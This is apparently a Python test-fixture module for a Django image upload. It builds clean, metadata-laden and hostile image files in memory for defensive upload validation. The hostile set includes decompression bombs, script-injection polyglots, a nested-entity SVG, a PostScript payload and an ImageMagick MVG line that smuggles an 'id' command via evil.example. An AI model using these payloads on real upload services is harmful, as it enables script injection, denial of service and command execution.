"""Image files for tests: ordinary ones, ones with metadata, and hostile ones.

All are made in memory, so that no opaque binary file has to be kept in the repository.
"""

import struct
import zlib
from collections.abc import Callable
from io import BytesIO
from typing import Any

from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from PIL import Image, ImageDraw
from PIL.PngImagePlugin import PngInfo

UPLOAD_URL = "/admin/upload/"
SECRET = b"52.5163 N, home of Ada"
"""Metadata that no stored picture may contain."""

PNG_SIGNATURE = b"\x89PNG\r\n\x1a\n"


def encoded(picture: Image.Image, kind: str, **options: Any) -> bytes:
    """Return the picture as a file of the given format."""
    file = BytesIO()
    picture.save(file, kind, **options)
    return file.getvalue()


def photo(width: int = 40, height: int = 20) -> Image.Image:
    """Return a picture that is red in its upper half and blue in its lower half."""
    picture = Image.new("RGB", (width, height), "blue")
    picture.paste("red", (0, 0, width, height // 2))
    return picture


def animation(
    kind: str, frames: int = 3, size: tuple[int, int] = (40, 20), **options: Any
) -> bytes:
    """Return an animated file whose frames differ."""
    colours = ["red", "lime", "blue"]
    first, *rest = [Image.new("RGB", size, colours[number % 3]) for number in range(frames)]
    options = {"duration": 80, "loop": 0, **options}
    return encoded(first, kind, save_all=True, append_images=rest, **options)


def writing() -> Image.Image:
    """Return a blue picture with red text whose lines are one pixel wide."""
    picture = Image.new("RGB", (640, 360), (20, 60, 200))
    draw = ImageDraw.Draw(picture)
    for line in range(0, 360, 14):
        draw.text((3, line), "The quick brown fox jumps over the lazy dog. " * 3, fill="red")
    return picture


def scenery(width: int = 400, height: int = 300, mode: str = "RGB") -> Image.Image:
    """Return noise: a picture that has as many colours as a photo."""
    bands = [Image.effect_noise((width, height), 80) for _band in mode]
    return Image.merge(mode, bands)


def matrix_profile(*colorants: tuple[float, float, float]) -> bytes:
    """Return an ICC profile: the XYZ values of red, green and blue, with the curve of sRGB.

    Without colorants, it is one of greys whose gamma is 1.
    """

    def fixed(*numbers: float) -> bytes:
        return struct.pack(f">{len(numbers)}i", *(round(n * 65536) for n in numbers))

    def text(words: str) -> bytes:
        data = words.encode("utf-16-be")
        return b"mluc" + struct.pack(">IIIHHII", 0, 1, 12, 0x656E, 0x5553, len(data), 28) + data

    white = fixed(0.9642, 1, 0.8249)
    srgb_curve = fixed(2.4, 1 / 1.055, 0.055 / 1.055, 1 / 12.92, 0.04045)
    curve = b"para\0\0\0\0" + struct.pack(">HH", 3, 0) + srgb_curve
    tags = {b"desc": text("Test"), b"cprt": text("None"), b"wtpt": b"XYZ \0\0\0\0" + white}
    for name, xyz in zip("rgb", colorants, strict=False):
        tags[f"{name}XYZ".encode()] = b"XYZ \0\0\0\0" + fixed(*xyz)
        tags[f"{name}TRC".encode()] = curve
    if not colorants:
        tags[b"kTRC"] = b"curv\0\0\0\0" + struct.pack(">I", 0)
    table, body = struct.pack(">I", len(tags)), b""
    for name, data in tags.items():
        table += name + struct.pack(">II", 132 + 12 * len(tags) + len(body), len(data))
        body += data + bytes(-len(data) % 4)
    space = b"RGB " if colorants else b"GRAY"
    head = bytes(4) + struct.pack(">I", 0x04300000) + b"mntr" + space + b"XYZ " + bytes(12)
    head += b"acsp" + bytes(28) + white
    size = 128 + len(table) + len(body)
    return struct.pack(">I", size) + (head + bytes(124))[:124] + table + body


DISPLAY_P3 = matrix_profile(
    (0.51512, 0.24120, -0.00105), (0.29198, 0.69225, 0.04189), (0.15710, 0.06657, 0.78407)
)


def tagged_jpeg() -> bytes:
    """Return a rotated JPEG with `SECRET` in every kind of metadata."""
    exif = Image.Exif()
    exif[0x0112] = 6  # orientation: the top of the picture is on the right
    exif[0x010E] = SECRET.decode()  # description
    exif.get_ifd(0x8825)[29] = SECRET.decode()  # GPS
    return encoded(photo(), "JPEG", exif=exif, comment=SECRET, icc_profile=SECRET * 20, quality=95)


def tagged_png() -> bytes:
    """Return a PNG with `SECRET` in its text chunks."""
    info = PngInfo()
    info.add_text("Comment", SECRET.decode())
    info.add_itxt("XML:com.adobe.xmp", SECRET.decode())
    info.add_text("Zipped", SECRET.decode(), zip=False)
    return encoded(photo(), "PNG", pnginfo=info)


def tagged_webp() -> bytes:
    """Return a WebP file with `SECRET` in EXIF and XMP."""
    exif = Image.Exif()
    exif[0x010E] = SECRET.decode()
    return encoded(photo(), "WEBP", exif=exif, xmp=SECRET)


def png_chunk(kind: bytes, data: bytes) -> bytes:
    """Return one chunk of a PNG file, with its length and checksum."""
    checksum = struct.pack(">I", zlib.crc32(kind + data))
    return struct.pack(">I", len(data)) + kind + data + checksum


def bomb(width: int = 20_000, height: int = 20_000) -> bytes:
    """Return a small PNG file that decodes to a huge picture."""
    header = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    rows = zlib.compress(b"\0" * ((width // 8 + 1) * height), 9)
    chunks = [(b"IHDR", header), (b"IDAT", rows), (b"IEND", b"")]
    return PNG_SIGNATURE + b"".join(png_chunk(kind, data) for kind, data in chunks)


def png_with_chunk(kind: bytes, data: bytes) -> bytes:
    """Return a valid PNG with one more chunk after its header."""
    png = encoded(photo(), "PNG")
    return png[:33] + png_chunk(kind, data) + png[33:]


UNREADABLE = "can't be read as a picture"
REFUSED: dict[str, tuple[Callable[[], bytes], str]] = {
    "an SVG": (lambda: b"<svg xmlns='http://www.w3.org/2000/svg'><script/></svg>", UNREADABLE),
    "a BMP": (lambda: encoded(photo(), "BMP"), UNREADABLE),
    "a TIFF": (lambda: encoded(photo(), "TIFF"), UNREADABLE),
    "half a JPEG": (lambda: tagged_jpeg()[: len(tagged_jpeg()) // 2], UNREADABLE),
    "half a PNG": (lambda: encoded(Image.effect_noise((90, 90), 9), "PNG")[:2000], UNREADABLE),
    "text": (lambda: b"Just a few words.", UNREADABLE),
    "one byte": (lambda: b"\x89", UNREADABLE),
    "a page that calls itself a PNG": (lambda: PNG_SIGNATURE + b"<html><script>", UNREADABLE),
    "more than a camera makes": (lambda: bomb(5_100, 5_000), "50 megapixels"),
    "a bomb": (bomb, f"50 megapixels|{UNREADABLE}"),
    "a tall bomb": (lambda: bomb(16, 30_000_000), f"50 megapixels|{UNREADABLE}"),
    "a long line": (lambda: bomb(65_536, 100), "65,535 pixels"),
    "a long column": (lambda: bomb(1, 65_536), "65,535 pixels"),
    "a tall picture": (lambda: bomb(20, 16_384), "16,383 pixels tall"),
    "a long animation": (lambda: animation("GIF", 1_001, (4, 3)), "1,000 frames"),
    "a large animation": (lambda: animation("PNG", 26, (1000, 1000)), "25 million"),
    "21 MB": (lambda: tagged_jpeg() + b"\0" * (21 * 1024 * 1024), "larger than 20 MB"),
}
"""Files that are refused, with a pattern for the message."""


def hostile_images() -> dict[str, bytes]:
    """Return hostile files by name. Those that are valid pictures must be stored without extras."""
    script = b"<script>alert(1)</script>"
    png, gif = encoded(photo(), "PNG"), encoded(photo(), "GIF")
    jpeg = encoded(photo(), "JPEG")
    return {
        "html_after.png": png + script,
        "html_after.jpg": jpeg + script,
        "html_in_comment.jpg": encoded(photo(), "JPEG", comment=b"*/=1;" + script + b"<?php x ?>"),
        "html_in_text.png": png_with_chunk(b"tEXt", b"Comment\0" + script),
        "html_in_unknown_chunk.png": png_with_chunk(b"abCd", script),
        "gif_and_html.gif": gif + script,
        "gif_and_script.gif": b"GIF89a/*" + gif[6:] + b"*/=1;alert(1)",
        "html.png": b"<!DOCTYPE html><title>x</title>" + script,
        "script.svg": b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'>"
        + script
        + b"</svg>",
        "entities.svg": b"<!DOCTYPE svg [<!ENTITY a 'aa'><!ENTITY b '&a;&a;'>]><svg>&b;</svg>",
        "header_only.png": png[:33],
        "no_end.png": png[:-12],
        "wrong_checksum.png": png[:29] + b"\0\0\0\0" + png[33:],
        "zero_width.png": png[:16] + b"\0\0\0\0" + png[20:],
        "negative_size.png": png[:16] + b"\xff" * 8 + png[24:],
        "huge_header.png": png[:16] + struct.pack(">II", 60_000, 60_000) + png[24:],
        "long_chunk.png": png[:33] + b"\x7f\xff\xff\xffIDAT" + png[41:],
        "zip_text.png": png_with_chunk(b"zTXt", b"a\0\0" + zlib.compress(bytes(1 << 22))),
        "many_frames.png": png_with_chunk(b"acTL", b"\0\x0f\xff\xff\0\0\0\0"),
        "start_only.jpg": b"\xff\xd8\xff",
        "no_end.jpg": jpeg[:-40],
        "bad_exif.jpg": jpeg[:2] + b"\xff\xe1\0\x10Exif\0\0MM\0\x2a\xff\xff\xff\xff" + jpeg[2:],
        "wrong_length.webp": encoded(photo(), "WEBP").replace(b"RIFF", b"RIFF\xff\xff", 1),
        "half.webp": encoded(Image.effect_noise((90, 90), 9), "WEBP")[:200],
        "half.avif": encoded(Image.effect_noise((90, 90), 9).convert("RGB"), "AVIF")[:300],
        "empty.png": b"",
        "zeros.png": bytes(1_000),
        "archive.png": b"PK\x03\x04" + bytes(100),
        "program.png": b"\x7fELF" + bytes(100),
        "ghostscript.png": b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\n(x) run\n",
        "coder.png": b"push graphic-context\nfill 'url(https://evil.example/|id)'\n",
    }


def image_upload(data: bytes | None = None, name: str = "a.png") -> SimpleUploadedFile:
    """Return a file for the upload form; a JPEG with metadata if `data` is None."""
    return SimpleUploadedFile(name, tagged_jpeg() if data is None else data, "image/png")


def send_upload(
    client: Client, data: bytes | None = None, alt: str = "A street", **fields: Any
) -> Any:
    """Send an image to the editor's upload and return the response."""
    return client.post(UPLOAD_URL, {"image": image_upload(data), "alt": alt, **fields})
